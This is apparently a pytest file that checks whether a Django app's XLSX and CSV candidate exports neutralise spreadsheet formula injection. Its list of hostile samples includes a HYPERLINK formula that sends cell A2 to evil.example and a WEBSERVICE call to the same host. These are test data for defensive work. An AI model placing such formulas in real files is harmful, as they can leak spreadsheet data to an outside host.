"""Exports cannot carry formulas (issue 11, item 5): a name typed as a formula stays text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]
from tests.factories import make_candidate

from titrepro.candidates import imports

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"clic")',
    '=WEBSERVICE("http://evil.example/")',
    "+33 1",
    "-2+3",
    "@SUM(A1)",
]


def test_xlsx_writes_formulas_as_text() -> None:
    candidate = make_candidate(birth_name=HOSTILE[0], birth_place=HOSTILE[1], usual_name="@SUM(A1)")
    workbook = load_workbook(io.BytesIO(imports.export_xlsx(candidate.centre)))
    row = next(workbook.active.iter_rows(min_row=2, max_row=2))
    by_value = {cell.value: cell for cell in row}
    for value in (HOSTILE[0], HOSTILE[1], "@SUM(A1)"):
        assert by_value[value].data_type == "s", value


def test_csv_neutralises_cells_a_spreadsheet_would_evaluate() -> None:
    candidate = make_candidate(birth_name=HOSTILE[0], birth_place=HOSTILE[1], usual_name="-2+3", given_names="Zoé")
    text = imports.export_csv(candidate.centre).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert row[0] == "'" + HOSTILE[0]
    assert row[1] == "'-2+3"
    assert row[2] == "Zoé"
    assert row[4] == "'" + HOSTILE[1]
